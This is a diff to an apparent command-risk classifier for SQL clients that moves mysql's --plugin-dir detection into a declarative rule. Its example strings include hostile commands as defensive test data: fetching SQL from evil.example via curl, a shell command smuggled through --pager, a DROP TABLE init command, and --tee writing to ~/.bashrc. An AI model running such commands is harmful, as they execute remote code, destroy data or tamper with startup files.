@@ -350,13 +350,13 @@ def _input_files(cmd) -> list[str]:
         "sql.file-runtime": ["psql -f <(curl -s https://evil.example/x.sql)"],
         "sql.session": ["psql", "mysql -u root -p db"], "sql.file": ["psql -f schema.sql", "mysql db < dump.sql"],
         "sql.init-command": ["mysql --init-command='DROP TABLE x' db"],
-        "sql.pager": ["mysql --pager='sh -c id' db"], "sql.plugin-dir": ["mysql --plugin-dir=/tmp/p db"],
+        "sql.pager": ["mysql --pager='sh -c id' db"],
         "sql.defaults-file": ["mysql --defaults-extra-file=/tmp/x.cnf db"],
         "sql.remote-server": ["psql -h db.example.com -c 'select 1'",
                               "psql postgresql://u@db.example.com/app -c 'select 1'"]})
 def sql_client(cmd, o) -> None:
     """A SQL client: the SQL it is given (-c/-e/--execute/-q/-Q, a here-document), the files it runs
-    (-f/-i, `< F`), the files it writes (-o/-L/--tee), and what it runs (--pager, --plugin-dir)."""
+    (-f/-i, `< F`), the files it writes (-o/-L/--tee), and what it runs (--pager; mysql's --plugin-dir is a row)."""
     name = cmd.name
     spec = CLIENTS[name]
     texts = []
@@ -379,8 +379,6 @@ def sql_client(cmd, o) -> None:
     for pager in o.all("pager"):
         if pager.split()[:1] not in (["less"], ["more"], ["cat"]):
             cmd.does("run-code", "sql.pager", f"{name} pipes its output through {pager[:40]}")
-    if o.all("plugin-dir"):
-        cmd.does("run-code", "sql.plugin-dir", f"{name} loads plugins from another directory")
     for config in o.all("defaults-file", "defaults-extra-file"):
         where = cmd.list_names(config, "uses")
         if where.cls not in (places.PROJECT, places.PROJECT_ROOT, places.HARMLESS, places.SECRET):
@@ -436,6 +434,8 @@ MYSQL_GRAMMAR = Grammar(values="eDhPuSlO", long_values=("execute", "database", "
                                                         "pager", "tee", "plugin-dir", "logfile", "login-path",
                                                         "default-character-set", "ssl-ca", "ssl-cert", "ssl-key"))
 MYSQL = Program("mysql", aliases=("mariadb", "mycli", "litecli"), doc="MySQL/MariaDB clients", hook=mysql_client,
+                rows=(Row("sql.plugin-dir", "run-code", "{cmd} loads plugins from another directory",
+                          When(value=("plugin-dir",)), examples=("mysql --plugin-dir=/tmp/p db",)),),
                 examples={"mysql -e 'SHOW TABLES' app_dev": "low", "mysql -u root -p db": "moderate",
                           "mysql -e 'DROP TABLE users' app": "dangerous", "mysql --tee=~/.bashrc db": "dangerous"})
 OTHER_CLIENTS = Program(
